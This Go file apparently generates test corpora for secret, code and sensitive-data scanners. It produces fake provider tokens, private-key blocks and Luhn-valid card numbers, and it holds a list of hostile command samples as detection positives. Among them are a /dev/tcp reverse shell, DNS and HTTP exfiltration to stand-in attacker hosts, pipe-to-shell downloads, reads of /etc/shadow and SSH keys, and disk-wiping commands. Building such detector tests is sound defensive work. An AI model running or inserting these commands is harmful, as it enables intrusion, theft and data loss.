package scancorpus

import (
	"fmt"
	"math/big"
	"math/rand/v2"
	"strings"
)

// Alphabets of generated values.
const (
	upper  = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
	lower  = "abcdefghijklmnopqrstuvwxyz"
	digits = "0123456789"
	alnum  = upper + lower + digits
	hexdig = "0123456789abcdef"
	b64    = alnum + "+/"
	b64url = alnum + "-_"
)

// Gen builds one random positive for a rule.
type Gen struct {
	Rule string
	Make func(r *rand.Rand) string
}

// rs returns n random bytes from alphabet.
func rs(r *rand.Rand, alphabet string, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[r.IntN(len(alphabet))]
	}
	return string(b)
}

// mixedRS returns n random alphanumerics with at least one upper-case
// letter, one lower-case letter and one digit, at random places.
func mixedRS(r *rand.Rand, n int) string {
	b := []byte(rs(r, alnum, n))
	p := r.Perm(n)
	b[p[0]] = upper[r.IntN(26)]
	b[p[1]] = lower[r.IntN(26)]
	b[p[2]] = digits[r.IntN(10)]
	return string(b)
}

// Secrets generate the positives of the secrets scanner. Every value is
// assembled from its parts at run time; the source holds no credential.
var Secrets = []Gen{
	{"aws-access-key-id", func(r *rand.Rand) string { return "AK" + "IA" + rs(r, upper+digits, 16) }},
	{"aws-access-key-id", func(r *rand.Rand) string { return "AS" + "IA" + rs(r, upper+"234567", 16) }},
	{"aws-secret-access-key", func(r *rand.Rand) string { return "aws_secret_access_key = " + mixedRS(r, 38) + "/+" }},
	{"aws-secret-access-key", func(r *rand.Rand) string { return `"AWS_SECRET": "` + mixedRS(r, 40) + `"` }},
	{"gcp-api-key", func(r *rand.Rand) string { return "AI" + "za" + rs(r, alnum+"-_", 35) }},
	{"github-token", func(r *rand.Rand) string { return "gh" + string("pousr"[r.IntN(5)]) + "_" + rs(r, alnum, 36) }},
	{"github-fine-grained-pat", func(r *rand.Rand) string { return "github" + "_pat_" + rs(r, alnum, 22) + "_" + rs(r, alnum, 59) }},
	{"gitlab-token", func(r *rand.Rand) string { return "gl" + "pat-" + rs(r, alnum+"_-", 20) }},
	{"stripe-secret-key", func(r *rand.Rand) string { return "sk" + "_live_" + rs(r, alnum, 24+r.IntN(76)) }},
	{"slack-token", func(r *rand.Rand) string {
		return "xo" + "xb-" + rs(r, digits, 11) + "-" + rs(r, digits, 12) + "-" + rs(r, alnum, 24)
	}},
	{"slack-webhook-url", func(r *rand.Rand) string {
		return "https://hooks.slack.com/services/T" + rs(r, upper+digits, 8) + "/B" + rs(r, upper+digits, 8) + "/" + rs(r, alnum, 24)
	}},
	{"generic-api-key", func(r *rand.Rand) string { return `api_key = "` + mixedRS(r, 32) + `"` }},
	{"generic-api-key", func(r *rand.Rand) string { return `X-Api-Key: ` + mixedRS(r, 40) }},
	{"bearer-token", func(r *rand.Rand) string { return "Authorization: Bearer " + mixedRS(r, 40) }},
	{"jwt", func(r *rand.Rand) string {
		return "ey" + "JhbGciOiJIUzI1NiJ9.ey" + "J" + rs(r, b64url, 40) + "." + rs(r, b64url, 43)
	}},
	{"private-key-rsa", func(r *rand.Rand) string { return pem(r, "RSA PRIVATE KEY") }},
	{"private-key-ec", func(r *rand.Rand) string { return pem(r, "EC PRIVATE KEY") }},
	{"private-key-openssh", func(r *rand.Rand) string { return pem(r, "OPENSSH PRIVATE KEY") }},
	{"private-key-pkcs8", func(r *rand.Rand) string { return pem(r, "PRIVATE KEY") }},
	{"private-key-pkcs8-encrypted", func(r *rand.Rand) string { return pem(r, "ENCRYPTED PRIVATE KEY") }},
	{"private-key-dsa", func(r *rand.Rand) string { return pem(r, "DSA PRIVATE KEY") }},
	{"private-key-pgp", func(r *rand.Rand) string { return pem(r, "PGP PRIVATE KEY BLOCK") }},
	{"password-assignment", func(r *rand.Rand) string { return `password = "` + mixedRS(r, 10) + `!"` }},
	{"password-assignment", func(r *rand.Rand) string { return `"db_pwd": '` + mixedRS(r, 14) + `'` }},
	{"password-assignment-unquoted", func(r *rand.Rand) string { return "DB_PASSWORD=" + mixedRS(r, 14) }},
	{"database-connection-string", func(r *rand.Rand) string {
		return "postgres://app:" + mixedRS(r, 16) + "@db.internal:5432/app"
	}},
	{"database-connection-string", func(r *rand.Rand) string {
		return "mongodb+srv://admin:" + mixedRS(r, 12) + "@cluster0.mongodb.net/prod"
	}},
	{"openai-api-key", func(r *rand.Rand) string { return "sk-" + "proj-" + rs(r, alnum+"_-", 48+r.IntN(100)) }},
	{"openai-api-key", func(r *rand.Rand) string { return "sk-" + rs(r, alnum, 20) + "T3Blbk" + "FJ" + rs(r, alnum, 20) }},
	{"anthropic-api-key", func(r *rand.Rand) string { return "sk-" + "ant-api03-" + rs(r, alnum+"_-", 93) + "AA" }},
	{"huggingface-token", func(r *rand.Rand) string { return "hf" + "_" + rs(r, upper+lower, 34) }},
	{"npm-token", func(r *rand.Rand) string { return "np" + "m_" + rs(r, alnum, 36) }},
	{"pypi-token", func(r *rand.Rand) string { return "py" + "pi-AgEIcHlwaS5vcmc" + rs(r, b64url, 60+r.IntN(100)) }},
	{"sendgrid-api-key", func(r *rand.Rand) string { return "S" + "G." + rs(r, b64url, 22) + "." + rs(r, b64url, 43) }},
	{"twilio-api-key", func(r *rand.Rand) string { return "S" + "K" + rs(r, hexdig, 32) }},
	{"azure-storage-key", func(r *rand.Rand) string {
		return "DefaultEndpointsProtocol=https;AccountName=x;Account" + "Key=" + rs(r, b64, 86) + "==;"
	}},
	{"azure-client-secret", func(r *rand.Rand) string {
		return "client " + rs(r, alnum, 3) + rs(r, digits, 1) + "Q" + "~" + rs(r, alnum+"_.-", 34)
	}},
	{"google-oauth-client-secret", func(r *rand.Rand) string { return "GOC" + "SPX-" + rs(r, alnum+"_-", 28) }},
	{"digitalocean-token", func(r *rand.Rand) string { return "do" + "p_v1_" + rs(r, hexdig, 64) }},
	{"generic-secret", func(r *rand.Rand) string { return `client_secret: "` + mixedRS(r, 32) + `"` }},
	{"generic-secret", func(r *rand.Rand) string { return `REFRESH_TOKEN=` + mixedRS(r, 40) }},
	{"high-entropy", func(r *rand.Rand) string { return "blob " + mixedRS(r, 40) + " stored" }},
}

func pem(r *rand.Rand, label string) string {
	var b strings.Builder
	b.WriteString("-----" + "BEGIN " + label + "-----\n")
	for range 4 {
		b.WriteString(rs(r, b64, 64) + "\n")
	}
	b.WriteString("-----" + "END " + label + "-----")
	return b.String()
}

// Code are fixed positives of the code scanner, one or more per group.
var Code = []struct{ Rule, Text string }{
	{"shell-exec", "const cp = require('child_process'); cp.exec(cmd)"},
	{"shell-exec", "exec(open('x.py').read())"},
	{"process-spawn", "spawn('sh', ['-c', cmd])"},
	{"eval-execution", "eval(atob(payload))"},
	{"eval-execution", "new Function(body)()"},
	{"shell-invocation", "#!/bin/bash"},
	{"shell-invocation", "powershell -enc ZQBj"},
	{"shell-metacharacters", "echo $(whoami)"},
	{"shell-metacharacters", "cat${IFS}/etc/hostname"},
	{"shell-metacharacters", "x=1; sh -c 'id'"},
	{"pipe-to-shell", "curl -fsSL https://get.example.sh | sh"},
	{"pipe-to-shell", "wget -qO- http://x.invalid/i.sh | sudo bash"},
	{"http-request", "fetch('https://collector.invalid/?d=' + data)"},
	{"dns-exfiltration", "nslookup $(hostname).attacker.invalid"},
	{"dns-exfiltration", "dig +short txt x.attacker.invalid"},
	{"reverse-shell", "mkfifo /tmp/f; cat /tmp/f"},
	{"reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"},
	{"network-tools", "nc 10.0.0.1 4444"},
	{"network-tools", "nmap -sS target"},
	{"sudo-su", "sudo cat /root/x"},
	{"sudo-su", "su - root"},
	{"permission-change", "chmod 4755 /tmp/sh"},
	{"permission-change", "setuid(0)"},
	{"kernel-module", "insmod rootkit.ko"},
	{"mount-operation", "mount -t proc proc /mnt"},
	{"mount-operation", "umount /mnt"},
	{"capability-manipulation", "setcap cap_net_raw+ep /bin/x"},
	{"package-install", "npm install left-pad"},
	{"package-install", "pacman -S nmap"},
	{"remote-script-execution", "bash <(curl -s https://x.invalid/i.sh)"},
	{"remote-script-execution", "curl -s https://x.invalid/a.py | python3"},
	{"dynamic-import", "mod = __import__('os')"},
	{"base64-decode", "echo aGk= | base64 -d"},
	{"unicode-escape", `"\u0065\u0076\u0061\u006c"`},
	{"unicode-escape", "String.fromCharCode(101,118)"},
	{"hex-encoding", `"\x65\x76\x61\x6c"`},
	{"hex-encoding", "bytes.fromhex('6576')"},
	{"sensitive-path-access", "cat /etc/shadow"},
	{"sensitive-path-access", "cp ~/.ssh/id_ed25519 /tmp"},
	{"path-traversal", "open('../../../etc/hosts')"},
	{"path-traversal", "GET /static/..%2f..%2fapp.py"},
	{"path-traversal", "include ../etc/motd"},
	{"destructive-operation", "rm -rf / --no-preserve-root"},
	{"destructive-operation", "dd if=/dev/zero of=/dev/sda"},
	{"weak-hash", "h = md5(data)"},
	{"weak-hash", "SHA1(buf)"},
	{"hardcoded-key", "AES_KEY = 'k3y0fsixteenbyte'"},
	{"hardcoded-key", "SECRET_KEY=dj4ng0s3cr3tv4lue"},
}

// Data generate the positives of the data scanner.
var Data = []Gen{
	{"credit-card-visa", func(r *rand.Rand) string { return cardNumber(r, "4", 16, " ") }},
	{"credit-card-visa", func(r *rand.Rand) string { return cardNumber(r, "4", 16, "") }},
	{"credit-card-mastercard", func(r *rand.Rand) string { return cardNumber(r, fmt.Sprint(51+r.IntN(5)), 16, "-") }},
	{"credit-card-mastercard", func(r *rand.Rand) string { return cardNumber(r, fmt.Sprint(2221+r.IntN(500)), 16, " ") }},
	{"credit-card-amex", func(r *rand.Rand) string { return cardNumber(r, []string{"34", "37"}[r.IntN(2)], 15, "amex") }},
	{"credit-card-discover", func(r *rand.Rand) string { return cardNumber(r, "6011", 16, " ") }},
	{"credit-card-jcb", func(r *rand.Rand) string { return cardNumber(r, fmt.Sprint(3528+r.IntN(62)), 16, "") }},
	{"credit-card-diners", func(r *rand.Rand) string { return cardNumber(r, fmt.Sprint(300+r.IntN(6)), 14, "") }},
	{"credit-card-unionpay", func(r *rand.Rand) string { return cardNumber(r, "62", 16, " ") }},
	{"iban", func(r *rand.Rand) string { return IBAN(r, "DE", 18, true) }},
	{"iban", func(r *rand.Rand) string { return IBAN(r, "GB", 18, false) }},
	{"iban", func(r *rand.Rand) string { return IBAN(r, "FR", 23, true) }},
	{"us-ssn", func(r *rand.Rand) string {
		area := 1 + r.IntN(899)
		if area == 666 {
			area = 665
		}
		return fmt.Sprintf("%03d-%02d-%04d", area, 1+r.IntN(99), 1+r.IntN(9999))
	}},
	{"email-address", func(r *rand.Rand) string {
		return rs(r, lower, 6) + "." + rs(r, lower, 5) + "@" + rs(r, lower, 7) + ".com"
	}},
	{"phone-number", func(r *rand.Rand) string {
		a, x, n := 200+r.IntN(800), 200+r.IntN(800), r.IntN(10000)
		switch r.IntN(5) {
		case 0:
			return fmt.Sprintf("(%d) %d-%04d", a, x, n)
		case 1:
			return fmt.Sprintf("%d-%d-%04d", a, x, n)
		case 2:
			return fmt.Sprintf("+1 %d %d %04d", a, x, n)
		case 3:
			return fmt.Sprintf("%d.%d.%04d", a, x, n)
		}
		return fmt.Sprintf("+44 20 %04d %04d", r.IntN(10000), n)
	}},
	{"ipv4-address", func(r *rand.Rand) string {
		return fmt.Sprintf("%d.%d.%d.%d", 1+r.IntN(223), r.IntN(256), r.IntN(256), 1+r.IntN(254))
	}},
	{"ipv6-address", func(r *rand.Rand) string {
		return fmt.Sprintf("2001:db8:%x:%x::%x", r.IntN(65536), r.IntN(65536), 1+r.IntN(65535))
	}},
	{"ipv6-address", func(r *rand.Rand) string {
		g := make([]string, 8)
		for i := range g {
			g[i] = fmt.Sprintf("%x", r.IntN(65536))
		}
		return strings.Join(g, ":")
	}},
	{"mac-address", func(r *rand.Rand) string {
		g := make([]string, 6)
		for i := range g {
			g[i] = fmt.Sprintf("%02x", r.IntN(256))
		}
		return strings.Join(g, []string{":", "-"}[r.IntN(2)])
	}},
	{"hipaa-identifier", func(r *rand.Rand) string {
		return []string{"Patient ID", "patient   record", "medical record number", "PHI", "protected health\ninformation"}[r.IntN(5)]
	}},
	{"gdpr-personal-data", func(r *rand.Rand) string {
		return []string{"data subject", "Right to Erasure", "right to be forgotten", "data controller"}[r.IntN(4)]
	}},
	{"pci-cardholder-data", func(r *rand.Rand) string {
		return []string{"cardholder data", "CVV", "primary account number", "magnetic stripe"}[r.IntN(4)]
	}},
	{"soc2-audit-artifact", func(r *rand.Rand) string {
		return []string{"SOC 2", "SOC2", "trust services criteria", "CUEC"}[r.IntN(4)]
	}},
}

// cardNumber returns a Luhn-valid number of n digits with the prefix,
// grouped 4-4-4-4 with sep (or 4-6-5 for "amex").
func cardNumber(r *rand.Rand, prefix string, n int, sep string) string {
	d := []byte(prefix + rs(r, digits, n-len(prefix)-1))
	d = append(d, LuhnDigit(d))
	s := string(d)
	switch sep {
	case "":
		return s
	case "amex":
		return s[:4] + " " + s[4:10] + " " + s[10:]
	}
	var g []string
	for i := 0; i < len(s); i += 4 {
		g = append(g, s[i:min(i+4, len(s))])
	}
	return strings.Join(g, sep)
}

// LuhnDigit returns the check digit that makes d+digit Luhn-valid.
func LuhnDigit(d []byte) byte {
	sum := 0
	double := true
	for i := len(d) - 1; i >= 0; i-- {
		v := int(d[i] - '0')
		if double {
			v *= 2
			if v > 9 {
				v -= 9
			}
		}
		sum += v
		double = !double
	}
	return byte('0' + (10-sum%10)%10)
}

// IBAN returns a valid IBAN for country with a random numeric BBAN of n
// digits, printed in groups of four when spaced.
func IBAN(r *rand.Rand, country string, n int, spaced bool) string {
	bban := rs(r, digits, n)
	check := 98 - ibanMod(bban+country+"00")
	s := fmt.Sprintf("%s%02d%s", country, check, bban)
	if !spaced {
		return s
	}
	var g []string
	for i := 0; i < len(s); i += 4 {
		g = append(g, s[i:min(i+4, len(s))])
	}
	return strings.Join(g, " ")
}

func ibanMod(s string) int {
	var num strings.Builder
	for _, c := range s {
		if c >= 'A' && c <= 'Z' {
			fmt.Fprint(&num, int(c-'A'+10))
		} else {
			num.WriteRune(c)
		}
	}
	v, _ := new(big.Int).SetString(num.String(), 10)
	return int(new(big.Int).Mod(v, big.NewInt(97)).Int64())
}

// NearMisses are negatives that resemble positives and must give no
// finding from any scanner.
func NearMisses(r *rand.Rand) []string {
	badCard := []byte(cardNumber(r, "4", 16, ""))
	badCard[15] = '0' + (badCard[15]-'0'+1)%10
	badIBAN := []byte(IBAN(r, "DE", 18, false))
	badIBAN[21] = '0' + (badIBAN[21]-'0'+1)%10
	return []string{
		"card " + string(badCard) + " declined",
		"ref " + string(badIBAN),
		"id 000-12-3456 and 666-12-3456 and 912-34-5678 and 123-00-4567 and 123-45-0000",
		"request 3f2b8c1e-9a4d-4e7b-8c2a-1d5e6f7a8b9c done",
		"commit 4b825dc642cb6eb9a060e54bf8d69288fbee4904",
		"sha256:" + rs(r, hexdig, 64),
		"export AWS_ACCESS_KEY_ID=AKIA" + "IOSFODNN7EXAMPLE",
		"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY",
		`api_key = "${API_KEY}"`,
		`api_key: "<your-api-key-goes-here>"`,
		`password = "xxxxxxxxxxxx"`,
		`password: "********"`,
		"Please enter your password to continue.",
		"password: required",
		"Your password reset link was sent.",
		"The secret to good software is testing.",
		"token expired, please log in again",
		"Authorization: Bearer <token>",
		"Authorization: Bearer ${GITHUB_TOKEN}",
		"postgres://user:password@localhost/db",
		"postgres://${DB_USER}:${DB_PASS}@db/app",
		"ok  \tgithub.com/x/y/z\t0.512s",
		"compiling ../lib/util.go and ../internal/x.go",
		"the mount point /mnt is ready",
		"a large amount of memory",
		"items.forEach(function(x) { return x })",
		"HOME=${HOME}/bin",
		"npm test passed",
		"pwd: /home/build",
		"version 1.2.3 released on 2026-11-26 at 17:20:13",
		"listening on :8080 at 12:30:45",
		"std::vector<int> v;",
		"call 555-1234 for help",
		"order number 1234567890123",
		"see RFC 4122",
		"user@localhost and admin@example.com",
		"digest md5sum ok",
		"ThisIsAVeryLongCamelCaseIdentifierName",
		"/usr/lib/x86_64-linux-gnu/libstdc++.so.6",
		"disk-usage 42%",
		"task-runner finished",
	}
}

// Positive is one generated positive and the rule that must find it.
type Positive struct {
	Rule, Text string
}

// Positives returns n positives cycling through every generator and code
// sample, with random values from seed.
func Positives(n int, seed uint64) []Positive {
	r := rand.New(rand.NewPCG(seed, 2))
	var all []Positive
	for len(all) < n {
		for _, g := range Secrets {
			all = append(all, Positive{g.Rule, g.Make(r)})
		}
		for _, g := range Data {
			all = append(all, Positive{g.Rule, g.Make(r)})
		}
		for _, c := range Code {
			all = append(all, Positive{c.Rule, c.Text})
		}
	}
	return all[:n]
}

// Mixed returns about n bytes of clean text with a positive line inserted
// every every bytes (at a line boundary), and the positives in order.
func Mixed(n, every int, seed uint64) ([]byte, []Positive) {
	clean := Clean(n, seed)
	pos := Positives(n/every+1, seed+1)
	var b []byte
	b = make([]byte, 0, n+len(pos)*64)
	k := 0
	for off := 0; off < len(clean); {
		end := min(off+every, len(clean))
		for end < len(clean) && clean[end-1] != '\n' {
			end++
		}
		b = append(b, clean[off:end]...)
		off = end
		if k < len(pos) {
			b = append(b, pos[k].Text...)
			b = append(b, '\n')
			k++
		}
	}
	return b, pos[:k]
}
